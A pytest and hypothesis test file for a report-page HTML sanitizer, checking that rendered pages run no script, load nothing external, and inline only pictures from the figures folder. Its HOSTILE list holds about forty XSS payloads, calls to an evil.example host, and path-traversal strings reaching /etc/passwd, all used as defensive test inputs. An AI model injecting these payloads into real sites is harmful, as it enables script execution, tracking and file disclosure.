"""The page that can be opened: nothing in it runs, nothing is loaded, and only pictures in the figures folder are shown."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from report_ls.features.full_page import full_page, inlined, page_body
from report_ls.features.safe_html import ATTRIBUTES, BLOCKS, INLINE, safe_html
from report_ls.figures import DiskFolder, Figures, MemoryFolder
from report_ls.format.page.tree import LenientParser
from tests.support.reports import report

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
FIGURES = Figures(
    MemoryFolder({"figures/a.png": PNG, "figures/b c.jpg": b"\xff\xd8\xff\xe0", "figures/page.png": b"<script>", "figures/x.svg": b"<svg>"})
)
HOSTILE = [
    "<script>document.title = 'ran'</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>document.title = 'ran'</scr</script>ipt>",
    "<img src=x onerror=\"document.title = 'ran'\">",
    "<img src=\"figures/a.png\" onload=\"document.title = 'ran'\">",
    "![x](javascript:document.title='ran')",
    "[x](javascript:document.title='ran')",
    "[x](JaVaScRiPt:document.title='ran')",
    "<a href=\"java\tscript:document.title='ran'\">x</a>",
    "<a href=\"&#106;avascript:document.title='ran'\">x</a>",
    "[x](data:text/html,<script>document.title='ran'</script>)",
    "<iframe src=\"javascript:parent.document.title='ran'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\">",
    "<object data=x.html></object><embed src=x.html>",
    "<svg><script>document.title = 'ran'</script></svg>",
    "<svg/onload=\"document.title='ran'\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=\"document.title='ran'\">",
    "<details open ontoggle=\"document.title='ran'\"><summary>x</summary></details>",
    "<body onload=\"document.title='ran'\">",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>body { background: url(https://evil.example/) }</style>",
    "<p style=\"background: url(https://evil.example/)\">x</p>",
    "<form action=https://evil.example><input autofocus onfocus=\"document.title='ran'\"></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='ran'>\">",
    "<!--><img src=x onerror=\"document.title='ran'\">-->",
    "<![CDATA[<img src=x onerror=\"document.title='ran'\">]]>",
    "</main></body></html><script>document.title='ran'</script>",
    "![x](../secret.png)",
    "![x](figures/../../secret.png)",
    "![x](figures/%2e%2e/secret.png)",
    "![x](/etc/passwd)",
    "![x](file:///etc/passwd)",
    "![x](https://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "<img srcset=\"https://evil.example/a.png 2x\" src=\"figures/a.png\">",
    "<video src=https://evil.example/a.mp4 autoplay></video>",
    "<a href=\"https://example.org\" target=_top ping=https://evil.example>x</a>",
    "[x](../secret.txt) [y](figures/a.png)",
]  # fmt: skip


class Seen(LenientParser):
    """All tags and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def expect_harmless(html: str) -> None:
    known = {
        "src",
        "alt",
        "width",
        "height",
        "href",
        "rel",
        "align",
        "class",
        "data-line",
        *{name for names in ATTRIBUTES.values() for name in names},
    }
    for tag, attributes in Seen(html).tags:
        assert tag in BLOCKS | INLINE | {"img"}
        assert attributes.keys() <= known
        assert (attributes.get("src") or "data:image/").startswith("data:image/")
        assert re.match(r"https?://|mailto:", attributes.get("href") or "https://")


def body_of(markdown: str) -> str:
    return page_body(f"{'x' * 43}\n\n{markdown}\n", lambda path: inlined(FIGURES, path))


@pytest.mark.parametrize("markdown", HOSTILE)
def test_what_could_run_or_load_is_not_in_the_page(markdown: str) -> None:
    body = body_of(f"before\n\n{markdown}")
    expect_harmless(body)
    assert "before" in body


@settings(max_examples=200, deadline=None, derandomize=True)
@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<", ">", '"', "'", "&lt;", "&#60;", "<a ", "<img ", "<!--", "-->", "\n\n", "`", "<p>", "</p>", "\0", "<?"]
        ),
        max_size=6,
    )
)
def test_nor_is_any_mixture_of_it(pieces: list[str]) -> None:
    expect_harmless(body_of("".join(pieces)))
    expect_harmless(safe_html("".join(pieces), "", lambda path: inlined(FIGURES, path)))


def test_pictures_are_inside_the_page_if_they_are_pictures_in_the_folder() -> None:
    assert '<img src="data:image/png;base64,iVBORw0K' in body_of("![a](figures/a.png)")
    assert '<img src="data:image/jpeg;base64,/9j/4A==" alt="a">' in body_of("![a](figures/b%20c.jpg)")
    for path in ("figures/none.png", "figures/page.png", "figures/x.svg"):
        assert f'<span class="no-picture">No picture here: {path}</span>' in body_of(f"![a]({path})")


@pytest.mark.skipif(not hasattr(Path, "symlink_to"), reason="no links here")
def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.png").write_bytes(PNG)
    (tmp_path / "reports" / "figures").mkdir(parents=True)
    (tmp_path / "reports" / "figures" / "a.png").symlink_to(tmp_path / "secret.png")
    assert inlined(Figures(DiskFolder(tmp_path / "reports")), "figures/a.png") is None


def test_blocks_know_their_line() -> None:
    text = report(answers={3: "One.\n\n- two\n- three"})
    body = page_body(text, lambda path: None)
    for shown in ("One.", "two", "three"):
        line = re.search(rf'data-line="(\d+)">{shown}', body)
        assert line is not None
        assert shown in text.split("\n")[int(line[1])]
    assert body.count("data-line") > 200


def test_sections_begin_a_page_of_paper_and_headings_in_answers_do_not() -> None:
    body = page_body(report(answers={3: "## Ours"}), lambda path: None)
    assert re.findall(r"<h2([^>]*)>(Ours|Version control)<", body)[0][0].startswith(" data-line")
    assert re.search(r'<h2 class="section" data-line="\d+">Version control</h2>', body)


def test_the_page_allows_itself_only_its_own_style_and_pictures() -> None:
    page = full_page(report(answers={1: "<b>$title</b>"}), 31, FIGURES)
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy is not None
    assert re.fullmatch(
        r"default-src 'none'; img-src data:; style-src 'sha256-[\w+/]{43}='; base-uri 'none'; form-action 'none'", policy[1]
    )
    assert "<title>Hand-in of group &lt;b&gt;$title&lt;/b&gt;</title>" in page


CHROMIUM = next((path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), None)


@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")
def test_in_a_browser_nothing_runs_and_the_style_is_used(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(full_page(f"{'x' * 43}\n\n" + "\n\n".join(HOSTILE), 31, FIGURES), "utf-8")
    command = [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}"]
    ended = subprocess.run(
        [*command, "--dump-dom", (tmp_path / "page.html").as_uri()], capture_output=True, text=True, timeout=120, check=True
    )
    assert "<title>Hand-in</title>" in ended.stdout
    assert "Refused to apply" not in ended.stderr
